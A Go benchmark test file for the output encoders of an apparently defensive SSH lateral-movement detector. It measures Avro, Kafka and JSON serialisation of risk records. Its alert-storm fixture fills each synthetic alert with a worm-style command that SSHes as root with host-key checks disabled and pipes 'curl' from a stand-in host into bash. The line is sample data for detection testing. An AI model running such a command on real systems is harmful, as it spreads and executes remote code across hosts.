package producer

import (
	"fmt"
	"io"
	"testing"
	"time"

	"github.com/twmb/franz-go/pkg/kgo"

	"github.com/sshlateral/sshlateral/processor"
)

// stormResults is an alert storm: every result a different host and
// command line, as a worm spreading produces them.
func stormResults(n int) []processor.Result {
	out := make([]processor.Result, n)
	for i := range out {
		r := fullResult()
		r.AlertID = fmt.Sprintf("%032x", i*7919)
		r.Key.Dest = fmt.Sprintf("web-%05d.prod.example.net", i)
		r.Key.ProcessID = fmt.Sprint(10000 + i)
		r.Key.Process = fmt.Sprintf("ssh -oStrictHostKeyChecking=no -oBatchMode=yes root@10.1.%d.%d 'curl -fsSL http://203.0.113.%d/ks | bash'", i/256%256, i%256, i%250)
		r.FirstSeen = r.FirstSeen.Add(time.Duration(i) * 108 * time.Millisecond)
		r.LastSeen = r.FirstSeen
		out[i] = r
	}
	return out
}

// perRecord reports ns per risk record: every op is one result, two records.
func perRecord(b *testing.B) {
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(2*b.N), "ns/record")
}

// BenchmarkEncodeRiskRecord measures one result: its two risk records,
// Confluent framed, as kgo records.
func BenchmarkEncodeRiskRecord(b *testing.B) {
	enc := newTestEncoder(b, WireConfluent, 1)
	results := []processor.Result{fullResult()}
	dst := make([]*kgo.Record, 0, 2)
	b.ReportAllocs()
	for b.Loop() {
		var err error
		if dst, err = enc.Records(results, dst[:0]); err != nil {
			b.Fatal(err)
		}
	}
	perRecord(b)
}

// BenchmarkGoavroRiskRecord is the reference Records replaced: the native
// maps of one result encoded by goavro.
func BenchmarkGoavroRiskRecord(b *testing.B) {
	codec := newTestCodec(b)
	r := fullResult()
	var buf []byte
	b.ReportAllocs()
	for b.Loop() {
		for _, native := range RiskRecords(r) {
			var err error
			if buf, err = codec.BinaryFromNative(buf[:0], native); err != nil {
				b.Fatal(err)
			}
		}
	}
	perRecord(b)
}

// BenchmarkOCFStorm writes an alert storm to a deflate container, as
// scan --output avro does.
func BenchmarkOCFStorm(b *testing.B) {
	results := stormResults(4096)
	w, err := NewOCFWriter(io.Discard)
	if err != nil {
		b.Fatal(err)
	}
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		if err := w.Write(results[i%len(results) : i%len(results)+1]); err != nil {
			b.Fatal(err)
		}
		i++
	}
	perRecord(b)
}

// BenchmarkJSONLinesStorm renders an alert storm as JSON lines.
func BenchmarkJSONLinesStorm(b *testing.B) {
	results := stormResults(4096)
	var buf []byte
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		var err error
		if buf, err = AppendJSONLines(buf[:0], &results[i%len(results)]); err != nil {
			b.Fatal(err)
		}
		i++
	}
	perRecord(b)
}

// BenchmarkJSONNativeStorm is the map-based rendering (RiskRecords, JSON).
func BenchmarkJSONNativeStorm(b *testing.B) {
	results := stormResults(4096)
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		for _, m := range RiskRecords(results[i%len(results)]) {
			if _, err := JSON(m); err != nil {
				b.Fatal(err)
			}
		}
		i++
	}
	perRecord(b)
}

func BenchmarkDecodeRiskRecord(b *testing.B) {
	enc := newTestEncoder(b, WireConfluent, 1)
	recs, err := enc.Records([]processor.Result{fullResult()}, nil)
	if err != nil {
		b.Fatal(err)
	}
	dec := newTestDecoder(b)
	b.ReportAllocs()
	for b.Loop() {
		if _, err := dec.Decode(recs[0].Value); err != nil {
			b.Fatal(err)
		}
	}
}
